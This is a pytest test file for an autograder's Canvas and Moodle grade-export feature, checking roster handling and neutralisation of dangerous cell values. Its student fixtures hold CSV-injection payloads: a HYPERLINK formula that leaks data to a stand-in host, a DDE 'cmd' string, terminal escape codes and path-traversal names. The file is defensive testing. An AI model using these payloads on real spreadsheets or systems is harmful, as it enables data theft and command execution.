"""Are the Canvas and Moodle grade files what those LMSs import, with every rostered student, and
is no graded student dropped unseen? (a real nbgrader gradebook filled through nbgrader's API; the
slow tests grade a small class with `grade`, and compare SQLite with PostgreSQL)"""

import csv
import shutil

import pytest

from autograder.__main__ import main
from autograder.grading.export_lms import LISTED_NAMES, RosterEntry, shown_names, spreadsheet_safe, write_lms_grades
from autograder.nbgrader_course import grading_environment
from tests.conftest import make_course_root

ASSIGNMENT = "regularization"
NOTEBOOK = "regularization"
CELLS = {"test_cost": 1.0, "test_backward": 2.0}
# student: (gradebook fields, {cell: score} or None for no submission, late penalty)
CLASS = {
    "ada": (dict(first_name="Ada", last_name="Lovelace", email="ada@example.org", lms_user_id="1001"),
            {"test_cost": 1.0, "test_backward": 2.0}, 0.0),
    "bob": (dict(first_name="Bob", last_name="Byron", email="bob@example.org", lms_user_id="1002"),
            {"test_cost": 1.0, "test_backward": 0.5}, 0.5),
    "cyd": (dict(first_name='=HYPERLINK("http://evil.example/?"&A1)', last_name="+1+cmd|' /C calc'!A0",
                 email="cyd@example.org", lms_user_id="-1003"),
            {"test_cost": 0.0, "test_backward": 2 / 3}, 0.0),
    "dan": (dict(first_name="Dan", last_name="Smith\nforged line\x1b[2J", email="dan@example.org"), None, 0.0),
    "eve": (dict(first_name="Eve", last_name="Evans", email="eve@example.org"),
            {"test_cost": 1.0, "test_backward": 1.0}, 0.0),
    "fay": (dict(first_name="Fay", last_name="Fox"), {"test_cost": 0.0, "test_backward": 0.0}, 0.0),
}
CANVAS_HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
MOODLE_HEADER = ["First name", "Last name", "Email address"]
# The instructor's roster: columns in an order of their own, no eve (graded), gus (never handed in).
ROSTER = [
    ["email", "id", "last_name", "first_name", "sis_user_id", "sis_login_id", "section", "lms_user_id"],
    ["ada@example.org", "ada", "Lovelace", "Ada", "S-1", "alovelace", "Lab A", "1001"],
    ["bob@example.org", "bob", "Byron", "Bob", "S-2", "bbyron", "Lab B", ""],
    ["cyd@example.org", "cyd", "+1+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1)', "@S-3", "", "", ""],
    ["dan@example.org", "dan", "Smith", "Dan", "S-4", "dsmith", "Lab A", ""],
    ["", "fay", "Fox", "Fay", "S-6", "ffox", "Lab B", ""],
    ["gus@example.org", "gus", "Gray", "Gus", "S-7", "ggray", "Lab A", ""],
]


def fill_gradebook(url, students=CLASS):
    """A gradebook at `url` holding the assignment and `students` as nbgrader's API records them."""
    from nbgrader.api import Gradebook

    with grading_environment(), Gradebook(url, "practical-deep-learning") as book:   # finds nbgrader's alembic
        book.add_assignment(ASSIGNMENT)
        book.add_notebook(NOTEBOOK, ASSIGNMENT)
        for cell, top in CELLS.items():
            book.add_grade_cell(cell, NOTEBOOK, ASSIGNMENT, max_score=top, cell_type="code")
        for student, (fields, scores, penalty) in students.items():
            book.add_student(student, **fields)
            if scores is None:
                continue
            book.add_submission(ASSIGNMENT, student)
            for cell, score in scores.items():
                book.find_grade(cell, NOTEBOOK, ASSIGNMENT, student).auto_score = score
            book.find_submission_notebook(NOTEBOOK, ASSIGNMENT, student).late_submission_penalty = penalty
            book.db.commit()


@pytest.fixture(scope="module")
def class_gradebook(tmp_path_factory):
    """The class's SQLite gradebook, made once: nbgrader takes seconds to create one."""
    path = tmp_path_factory.mktemp("gradebook") / "gradebook.db"
    fill_gradebook(f"sqlite:///{path}")
    return path


@pytest.fixture
def graded_root(course_root, class_gradebook):
    shutil.copy(class_gradebook, course_root / "gradebook.db")
    return course_root


def write_roster(path, rows=ROSTER):
    with open(path, "w", newline="", encoding="utf-8") as stream:
        csv.writer(stream).writerows(rows)
    return path


def export(root, lms, *arguments):
    return main(["export", ASSIGNMENT, "--to", lms, "--root", str(root), *map(str, arguments)])


def read_rows(path):
    with open(path, newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


def test_does_the_canvas_file_list_every_rostered_student_with_their_net_score(graded_root, capsys):
    roster = write_roster(graded_root / "roster.csv")
    assert export(graded_root, "canvas", "--roster", roster) == 0
    path = graded_root / "exports" / "canvas" / f"{ASSIGNMENT}.csv"
    assert read_rows(path) == [
        CANVAS_HEADER + [ASSIGNMENT],
        ["Points Possible", "", "", "", "", "3"],
        ["Lovelace, Ada", "1001", "S-1", "alovelace", "Lab A", "3"],
        ["Byron, Bob", "", "S-2", "bbyron", "Lab B", "1"],             # 1.5 less the 0.5 late penalty
        ["'+1+cmd|' /C calc'!A0, =HYPERLINK(\"http://evil.example/?\"&A1)", "", "'@S-3", "", "", "0.6667"],
        ["Smith, Dan", "", "S-4", "dsmith", "Lab A", ""],               # rostered, nothing handed in
        ["Fox, Fay", "", "S-6", "ffox", "Lab B", "0"],                  # handed in, scored 0
        ["Gray, Gus", "", "S-7", "ggray", "Lab A", ""],                 # not in the gradebook at all
    ]
    out, err = capsys.readouterr()
    assert out == (f"wrote {path}: 6 student(s) from roster {roster}, 4 with a grade out of 3 "
                   "(no submission: empty grade)\n")
    assert err == f"warning: 1 graded student(s) not in roster {roster}, so not in {ASSIGNMENT}.csv: eve\n"


def test_does_the_moodle_file_list_every_student_with_an_email_and_name_those_without(graded_root, capsys):
    roster = write_roster(graded_root / "roster.csv")
    assert export(graded_root, "moodle", "--roster", roster, "--column", "Regularization (L2)") == 0
    path = graded_root / "exports" / "moodle" / f"{ASSIGNMENT}.csv"
    assert read_rows(path) == [
        MOODLE_HEADER + ["Regularization (L2)"],
        ["Ada", "Lovelace", "ada@example.org", "3"],
        ["Bob", "Byron", "bob@example.org", "1"],
        ["'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+1+cmd|' /C calc'!A0", "cyd@example.org", "0.6667"],
        ["Dan", "Smith", "dan@example.org", ""],
        ["Gus", "Gray", "gus@example.org", ""],
    ]
    err = capsys.readouterr().err.splitlines()
    assert err == [f"warning: 1 graded student(s) not in roster {roster}, so not in {ASSIGNMENT}.csv: eve",
                   f"warning: 1 student(s) of roster {roster} have no email address, which Moodle needs to find "
                   f"them, so are not in {ASSIGNMENT}.csv: fay"]


def test_is_the_gradebooks_student_table_the_roster_by_default(graded_root, capsys):
    assert export(graded_root, "canvas", "--column", "Regularization (4242)") == 0
    rows = read_rows(graded_root / "exports" / "canvas" / f"{ASSIGNMENT}.csv")
    assert rows[0] == CANVAS_HEADER + ["Regularization (4242)"]
    assert rows[2:] == [
        ["Lovelace, Ada", "1001", "", "", "", "3"],
        ["Byron, Bob", "1002", "", "", "", "1"],
        ["'+1+cmd|' /C calc'!A0, =HYPERLINK(\"http://evil.example/?\"&A1)", "'-1003", "", "", "", "0.6667"],
        ["Smith forged line[2J, Dan", "", "", "", "", ""],   # one line, no escape character
        ["Evans, Eve", "", "", "", "", "2"],
        ["Fox, Fay", "", "", "", "", "0"],
    ]
    out, err = capsys.readouterr()
    assert "6 student(s) from the gradebook's student table, 5 with a grade" in out
    assert err == ""


def test_does_every_cell_a_spreadsheet_would_run_start_with_a_quote(graded_root):
    roster = write_roster(graded_root / "roster.csv")
    for lms in ("canvas", "moodle"):
        assert export(graded_root, lms, "--roster", roster) == 0
        text_cells = [cell for row in read_rows(graded_root / "exports" / lms / f"{ASSIGNMENT}.csv")
                      for cell in row[:-1]]
        assert [cell for cell in text_cells if cell.startswith(("=", "+", "-", "@"))] == []
        assert any(cell.startswith(("'=", "'+")) for cell in text_cells), "the class has formula-like names"


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("Ada", "Ada"),
    ("a=b", "a=b"), ("\n=1+1", "'=1+1"), ("\t@x", "'@x"), (None, ""),
])
def test_is_a_formula_neutralized_wherever_whitespace_hides_it(value, safe):
    assert spreadsheet_safe(value) == safe


def test_are_names_bounded_and_the_list_of_missing_students_too():
    assert len(spreadsheet_safe("x" * 100_000)) <= 200
    ids = [f"s{i:03}\x1b[1A" for i in range(LISTED_NAMES + 5)]
    line = shown_names(ids)
    assert "\x1b" not in line and "\n" not in line
    assert line.endswith(f"s{LISTED_NAMES - 1:03}[1A and 5 more")


@pytest.mark.parametrize("rows, says", [
    ([["name", "email"], ["Ada", "ada@example.org"]], "has no `id` column"),
    ([["id", "emial"], ["ada", "ada@example.org"]], "has column(s) 'emial' that export does not know"),
    ([["id"], ["ada"], ["ada"]], "line 3: student id 'ada' appears twice"),
    ([["id", "email"], ["", "ada@example.org"]], "line 2: the `id` cell is empty"),
    ([["id"]], "the roster lists no student"),
])
def test_is_a_roster_it_cannot_use_refused_in_one_sentence_without_writing_a_file(graded_root, capsys, rows, says):
    roster = write_roster(graded_root / "roster.csv", rows)
    assert export(graded_root, "canvas", "--roster", roster) == 1
    err = capsys.readouterr().err
    assert says in err and err.count("\n") == 1 and err.startswith("error: ")
    assert not (graded_root / "exports" / "canvas" / f"{ASSIGNMENT}.csv").exists()


def test_are_a_roster_that_is_not_utf8_and_a_missing_roster_refused(graded_root, capsys):
    (graded_root / "latin1.csv").write_bytes("id,last_name\nzoe,M\xfcller\n".encode("latin-1"))
    assert export(graded_root, "moodle", "--roster", graded_root / "latin1.csv") == 1
    assert "is not UTF-8 text" in capsys.readouterr().err
    assert export(graded_root, "moodle", "--roster", graded_root / "none.csv") == 1
    assert "no roster file" in capsys.readouterr().err


def test_does_a_roster_saved_by_excel_with_a_byte_order_mark_and_padded_titles_read(graded_root):
    roster = graded_root / "bom.csv"
    roster.write_text("\ufeffid, email \nada,ada@example.org\n", encoding="utf-8")
    assert export(graded_root, "moodle", "--roster", roster) == 0
    assert read_rows(graded_root / "exports" / "moodle" / f"{ASSIGNMENT}.csv")[1] == ["", "", "ada@example.org", "3"]


def test_does_moodle_refuse_a_roster_without_any_email(course_root, capsys):
    fill_gradebook(f"sqlite:///{course_root / 'gradebook.db'}",
                   {"zoe": (dict(first_name="Zoe"), {"test_cost": 1.0, "test_backward": 2.0}, 0.0)})
    assert export(course_root, "moodle") == 1
    assert "no student of the roster has an email address" in capsys.readouterr().err
    assert not (course_root / "exports").exists()


def test_does_export_say_so_when_there_is_no_gradebook_assignment_or_submission(course_root, capsys):
    assert export(course_root, "canvas") == 1
    assert "no gradebook" in capsys.readouterr().err
    fill_gradebook(f"sqlite:///{course_root / 'gradebook.db'}",
                   {"dan": (dict(first_name="Dan", email="dan@example.org"), None, 0.0)})
    assert main(["export", "no-such-assignment", "--to", "canvas", "--root", str(course_root)]) == 1
    assert "no assignment 'no-such-assignment'" in capsys.readouterr().err
    assert export(course_root, "moodle") == 1
    assert "no graded submissions" in capsys.readouterr().err
    assert not (course_root / "exports").exists()


@pytest.mark.slow
def test_is_the_postgresql_export_byte_for_byte_the_sqlite_one(tmp_path, postgres_url):
    roots = {}
    for name in ("sqlite", "postgresql"):
        (tmp_path / name).mkdir()
        roots[name] = make_course_root(tmp_path / name)
    fill_gradebook(f"sqlite:///{roots['sqlite'] / 'gradebook.db'}")
    fill_gradebook(postgres_url)
    for lms, rostered, lines in (("canvas", True, 8), ("moodle", True, 6), ("canvas", False, 8), ("moodle", False, 6)):
        for name, root in roots.items():
            roster = ["--roster", write_roster(root / "roster.csv")] if rostered else []   # else the student table
            extra = ["--db-url", postgres_url] if name == "postgresql" else []
            assert export(root, lms, *roster, *extra) == 0, (lms, name)
        files = [(root / "exports" / lms / f"{ASSIGNMENT}.csv").read_bytes() for root in roots.values()]
        assert files[0] == files[1] and files[0].count(b"\r\n") == lines, (lms, rostered)
    assert not (roots["postgresql"] / "gradebook.db").exists()


@pytest.mark.slow
def test_does_a_class_graded_by_grade_reach_the_canvas_file_with_its_scores(tmp_path, capsys):
    from tests import messy_class

    students = ("honest_ada", "buggy_backward", "untouched")
    root = make_course_root(tmp_path)
    messy_class.hand_in(root, students)
    assert main(["grade", ASSIGNMENT, "--no-progress", "--workers", "1", "--root", str(root)]) == 0
    roster = write_roster(root / "roster.csv", [["id", "first_name", "last_name", "sis_login_id"],
                                                ["honest_ada", "Ada", "Honest", "ahonest"],
                                                ["buggy_backward", "Bo", "Buggy", "bbuggy"],
                                                ["absent", "Al", "Absent", "aabsent"]])
    capsys.readouterr()
    assert export(root, "canvas", "--roster", roster) == 0
    rows = read_rows(root / "exports" / "canvas" / f"{ASSIGNMENT}.csv")
    assert rows[1] == ["Points Possible", "", "", "", "", "3"]
    assert [(row[0], row[3], row[5]) for row in rows[2:]] == [
        ("Honest, Ada", "ahonest", str(messy_class.CLASS["honest_ada"][1].total)),
        ("Buggy, Bo", "bbuggy", str(messy_class.CLASS["buggy_backward"][1].total)),
        ("Absent, Al", "aabsent", "")]
    assert capsys.readouterr().err == (f"warning: 1 graded student(s) not in roster {roster}, so not in "
                                       f"{ASSIGNMENT}.csv: untouched\n")


def test_are_roster_and_column_refused_for_the_exports_that_ignore_them(graded_root, capsys):
    assert export(graded_root, "csv", "--roster", graded_root / "roster.csv") == 2
    assert capsys.readouterr().err == "error: --roster and --column are for --to canvas or moodle, not --to csv.\n"
    assert not (graded_root / "grades.csv").exists()


@pytest.mark.parametrize("assignment", ["../regularization", "a/b", "..", ""])
def test_is_an_assignment_name_that_would_leave_the_export_folder_refused(tmp_path, assignment):
    with pytest.raises(ValueError, match="plain file name"):
        write_lms_grades(tmp_path, assignment, "canvas", [RosterEntry("ada")], {"ada": 3.0}, 3.0)
    assert not (tmp_path / "exports").exists() and not (tmp_path / "regularization.csv").exists()
